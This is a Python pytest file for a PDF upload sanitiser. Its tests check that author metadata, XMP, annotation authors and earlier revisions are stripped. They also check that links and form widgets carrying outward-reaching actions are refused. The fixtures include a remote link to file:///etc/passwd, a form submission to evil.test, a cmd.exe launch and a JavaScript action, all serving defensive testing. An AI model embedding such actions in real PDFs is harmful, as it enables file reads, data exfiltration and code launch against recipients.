"""PDF attachments lose what identifies their author (the document information
dictionary, XMP metadata, application data, annotation authors, earlier
revisions), and PDFs whose links or form widgets carry actions that reach out
(another file, a form submission, a data import, a program, a script) are
refused. The test PDFs are made here with pikepdf, as a word processor would."""

from __future__ import annotations

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from pypdf import PdfWriter

from aspirasi_core.domain.errors import Invalid
from aspirasi_core.security.uploads import inspect_upload

AUTHOR = "Budi Santoso"
PATH = r"C:\Users\budi.santoso\Documents\aduan-pungli.docx"


def check(data: bytes):
    return inspect_upload("aduan.pdf", data, allowed=frozenset({"pdf"}), max_bytes=10 * 2**20)


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def word_processor_pdf(pages: int = 2) -> pikepdf.Pdf:
    """A PDF as office software writes it: author and creator path in /Info and
    in XMP, private application data on a page, a commented page."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(300, 400))
    pdf.docinfo["/Author"] = AUTHOR
    pdf.docinfo["/Creator"] = PATH
    pdf.docinfo["/Title"] = "Laporan pungli - budi.santoso"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [AUTHOR]
        meta["xmp:CreatorTool"] = PATH
    page = pdf.pages[0].obj
    page["/PieceInfo"] = Dictionary(
        {"/Word": Dictionary({"/Private": String(PATH), "/LastModified": String("D:2026")})}
    )
    page["/Metadata"] = pdf.make_stream(b"<x:xmpmeta>" + AUTHOR.encode() + b"</x:xmpmeta>")
    note = pdf.make_indirect(
        Dictionary(
            {
                "/Type": Name.Annot,
                "/Subtype": Name.Text,
                "/Rect": Array([10, 10, 30, 30]),
                "/Contents": String("Lihat halaman 2"),
                "/T": String(AUTHOR),
            }
        )
    )
    page["/Annots"] = Array([note])
    return pdf


def identifying(data: bytes) -> list[str]:
    lowered = data.lower()
    return [s for s in ("budi", "santoso", "users\\") if s.encode() in lowered]


@pytest.mark.parametrize("object_streams", ["preserve", "generate"])
def test_author_creator_and_xmp_are_removed(object_streams: str) -> None:
    original = saved(
        word_processor_pdf(),
        object_stream_mode=getattr(pikepdf.ObjectStreamMode, object_streams),
        compress_streams=False,
    )
    assert identifying(original)  # the sample does carry them
    clean = check(original)
    assert identifying(clean.data) == []
    with pikepdf.open(io.BytesIO(clean.data)) as pdf:
        assert "/Info" not in pdf.trailer
        assert "/Metadata" not in pdf.Root
        assert len(pdf.pages) == 2
        page = pdf.pages[0].obj
        assert "/PieceInfo" not in page and "/Metadata" not in page
        (note,) = page.Annots
        assert "/T" not in note and str(note.Contents) == "Lihat halaman 2"
    assert clean.content_type == "application/pdf" and clean.size == len(clean.data)


def test_an_earlier_revision_with_the_author_is_dropped() -> None:
    """An incremental update that blanks /Author leaves the old value in the file."""
    first = saved(word_processor_pdf(pages=1))
    writer = PdfWriter(io.BytesIO(first), incremental=True)
    writer.add_metadata({"/Author": "-"})
    out = io.BytesIO()
    writer.write(out)
    updated = out.getvalue()
    assert updated.startswith(first) and identifying(updated)
    assert identifying(check(updated).data) == []


def test_form_fields_keep_their_names_and_values() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 400))
    field = pdf.make_indirect(
        Dictionary(
            {
                "/Type": Name.Annot,
                "/Subtype": Name.Widget,
                "/FT": Name.Tx,
                "/T": String("nama_pelapor"),
                "/V": String("isi formulir"),
                "/Rect": Array([10, 10, 200, 30]),
                "/P": pdf.pages[0].obj,
            }
        )
    )
    pdf.pages[0].obj["/Annots"] = Array([field])
    pdf.Root["/AcroForm"] = Dictionary({"/Fields": Array([field])})
    clean = check(saved(pdf))
    with pikepdf.open(io.BytesIO(clean.data)) as done:
        (widget,) = done.pages[0].obj.Annots
        assert str(widget.T) == "nama_pelapor" and str(widget.V) == "isi formulir"


def action(kind: str) -> Dictionary:
    extra: dict[str, object] = {
        "GoToR": {"/F": String("file:///etc/passwd"), "/D": Array([0, Name.Fit])},
        "SubmitForm": {"/F": Dictionary({"/FS": Name.URL, "/F": String("https://evil.test/")})},
        "ImportData": {"/F": String("data.fdf")},
        "Launch": {"/F": String("cmd.exe")},
        "JavaScript": {"/JS": String("app.alert(1)")},
    }[kind]
    return Dictionary({"/Type": Name.Action, "/S": Name("/" + kind), **extra})


def annotated(annotation: Dictionary, *, form: bool = False) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 400))
    annot = pdf.make_indirect(annotation)
    pdf.pages[0].obj["/Annots"] = Array([annot])
    if form:
        pdf.Root["/AcroForm"] = Dictionary({"/Fields": Array([annot])})
    return saved(pdf)


KINDS = ["GoToR", "SubmitForm", "ImportData", "Launch", "JavaScript"]


def refused_code(data: bytes) -> str:
    with pytest.raises(Invalid) as caught:
        check(data)
    return caught.value.code


@pytest.mark.parametrize("kind", KINDS)
def test_link_actions_that_reach_out_are_refused(kind: str) -> None:
    link = Dictionary(
        {
            "/Type": Name.Annot,
            "/Subtype": Name.Link,
            "/Rect": Array([10, 10, 50, 50]),
            "/A": action(kind),
        }
    )
    assert refused_code(annotated(link)) == "pdf_active_content"


@pytest.mark.parametrize("kind", KINDS)
def test_form_widget_actions_that_reach_out_are_refused(kind: str) -> None:
    widget = Dictionary(
        {
            "/Type": Name.Annot,
            "/Subtype": Name.Widget,
            "/FT": Name.Btn,
            "/Ff": 65536,  # a push button
            "/T": String("kirim"),
            "/Rect": Array([10, 10, 80, 30]),
            "/A": action(kind),
        }
    )
    assert refused_code(annotated(widget, form=True)) == "pdf_active_content"


@pytest.mark.parametrize("kind", KINDS)
def test_actions_chained_after_a_plain_link_are_refused(kind: str) -> None:
    link = Dictionary(
        {
            "/Type": Name.Annot,
            "/Subtype": Name.Link,
            "/Rect": Array([10, 10, 50, 50]),
            "/A": Dictionary(
                {"/S": Name.URI, "/URI": String("https://example.org/"), "/Next": action(kind)}
            ),
        }
    )
    assert refused_code(annotated(link)) == "pdf_active_content"


def test_a_plain_web_link_and_a_page_link_are_accepted() -> None:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(300, 400))
    pdf.add_blank_page(page_size=(300, 400))
    web = Dictionary(
        {
            "/Type": Name.Annot,
            "/Subtype": Name.Link,
            "/Rect": Array([10, 10, 50, 50]),
            "/A": Dictionary({"/S": Name.URI, "/URI": String("https://example.org/")}),
        }
    )
    goto = Dictionary(
        {
            "/Type": Name.Annot,
            "/Subtype": Name.Link,
            "/Rect": Array([60, 10, 90, 50]),
            "/A": Dictionary({"/S": Name.GoTo, "/D": Array([pdf.pages[1].obj, Name.Fit])}),
        }
    )
    pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(web), pdf.make_indirect(goto)])
    clean = check(saved(pdf))
    with pikepdf.open(io.BytesIO(clean.data)) as done:
        assert len(done.pages[0].obj.Annots) == 2
